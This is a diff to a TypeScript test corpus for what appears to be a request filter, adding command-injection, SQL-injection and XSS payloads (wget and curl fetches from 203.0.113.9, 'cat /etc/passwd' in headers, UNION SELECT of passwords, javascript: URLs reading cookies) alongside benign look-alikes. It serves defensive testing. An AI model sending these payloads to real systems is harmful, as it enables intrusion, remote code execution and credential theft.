@@ -256,6 +256,32 @@ const HOLDOUT_2_BENIGN: CorpusEntry[] = [
   { category: 'upload', name: 'holdout-2: CSV with formulas, semicolons and doubled quotes', why: 'Spreadsheet export quoting', method: 'POST', path: '/api/v1/files', headers: bearer, form: { fields: { purpose: 'assistants' }, files: [{ field: 'file', filename: 'contacts.csv', contentType: 'text/csv', content: 'name,email,note\n"O\'Brien, Siobhán",siobhan@example.ie,"said ""hi"""\nZoë;Müller,zoe@example.de,=SUM(A1:A3)\n"D\'Angelo",d@example.it,"1=1; drop me a line"\n' }] } },
 ];
 
+/**
+ * Classes a public payload matrix found missed or refused (issue 15), written from each class's structure:
+ * injections in custom X- headers (an application logs, echoes or forwards them), a command whose argument is
+ * a URL, and the words "JavaScript:" in a title (a colon and a space, then words: not a script URL). Names start
+ * with "matrix:".
+ */
+const MATRIX_ATTACKS: CorpusEntry[] = [
+  { category: 'cmdi', name: 'matrix: command with a URL argument', why: 'Download of a script after a separator: the argument is a URL, not an option', path: '/api/tools/ping?host=127.0.0.1%3Bwget%20http%3A%2F%2F203.0.113.9%2Fx.sh' },
+  { category: 'cmdi', name: 'matrix: curl of a URL in JSON', why: 'The same shape in an API body field', method: 'POST', path: '/api/tools/run', headers: bearer, json: { host: 'localhost && curl https://203.0.113.9/stage2' } },
+  { category: 'cmdi', name: 'matrix: command injection in a custom header', why: 'Tenant headers end up in shell scripts and logs', path: '/api/agents', headers: { ...bearer, 'X-Tenant-Id': 'acme;cat /etc/passwd' } },
+  { category: 'sqli', name: 'matrix: SQL tautology in a custom header', why: 'Header values used in queries (tenant lookups)', path: '/api/agents', headers: { ...bearer, 'X-Tenant-Id': "acme' OR '1'='1" } },
+  { category: 'sqli', name: 'matrix: UNION SELECT in a custom header', why: 'Header values used in reporting queries', path: '/api/reports', headers: { ...bearer, 'X-Report-Filter': "1 UNION SELECT username, password FROM users--" } },
+  { category: 'xss', name: 'matrix: javascript: URL with a space before the call', why: 'Browsers run "javascript: alert(1)" with the space', path: '/api/redirect?to=javascript%3A%20alert(document.cookie)' },
+  { category: 'xss', name: 'matrix: javascript: URL split by a tab', why: 'Browsers drop tabs and newlines inside a URL scheme', path: '/api/redirect?to=java%09script%3Aalert(1)' },
+  { category: 'xss', name: 'matrix: javascript: URL split by an entity-encoded tab', why: 'The same, as an HTML entity in a link', method: 'POST', path: '/api/links', headers: bearer, json: { href: 'jav&#x09;ascript:alert(1)' } },
+  { category: 'xss', name: 'matrix: javascript: URL with a comment', why: 'A comment instead of a space', path: '/api/redirect?to=javascript%3A%2F**%2Falert(1)' },
+  { category: 'cmdi', name: 'matrix: command substitution in a custom header', why: 'A device name echoed into a shell', method: 'POST', path: '/api/devices', headers: { ...bearer, 'X-Device-Name': 'laptop$(id)' }, json: { ok: true } },
+];
+
+const MATRIX_BENIGN: CorpusEntry[] = [
+  { category: 'write', name: 'matrix: course title "JavaScript: Basics"', why: 'A colon and a space after "JavaScript" start words, not a script URL', method: 'POST', path: '/api/courses', headers: bearer, json: { title: 'JavaScript: Basics of JavaScript Language', level: 'beginner' } },
+  { category: 'read', name: 'matrix: search for "javascript: tutorial"', why: 'The same words in a query string', path: '/api/search?q=javascript%3A%20tutorial%20for%20beginners' },
+  { category: 'read', name: 'matrix: custom headers of an API client', why: 'Request ids, versions and tenant names are ordinary X- headers', path: '/api/agents', headers: { ...bearer, 'X-Request-Id': '3f2b8c1e-9a4d-4e7b-b1c2-5d6e7f809a1b', 'X-Api-Version': '2024-05-01', 'X-Tenant-Id': 'acme-europe', 'X-Client-Name': "O'Reilly Media; analytics" } },
+  { category: 'write', name: 'matrix: prompt naming wget and a URL', why: 'Prose about downloading a file', method: 'POST', path: '/api/runs', headers: bearer, json: { prompt: 'How do I use wget https://example.com/file.tar.gz to resume a download?' } },
+];
+
 export const ATTACKS: CorpusEntry[] = [
   // SQL injection
   { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
@@ -320,6 +346,7 @@ export const ATTACKS: CorpusEntry[] = [
   { category: 'scanner', name: 'probe for .git/config', why: 'Scanners probe for exposed git metadata', path: '/.git/config' },
   ...INDEPENDENT_ATTACKS,
   ...HOLDOUT_2_ATTACKS,
+  ...MATRIX_ATTACKS,
 ];
 
 export const BENIGN: CorpusEntry[] = [
@@ -367,4 +394,5 @@ export const BENIGN: CorpusEntry[] = [
   { category: 'write', name: 'Q&A prose with quotes', why: 'Quoted speech, ampersands and question marks', method: 'POST', path: '/api/notes', headers: auth, json: { body: 'Q&A: "Can we select a different model?" - "Yes, and we\'ll drop the old one." Thanks & regards, Zoë' } },
   ...INDEPENDENT_BENIGN,
   ...HOLDOUT_2_BENIGN,
+  ...MATRIX_BENIGN,
 ];
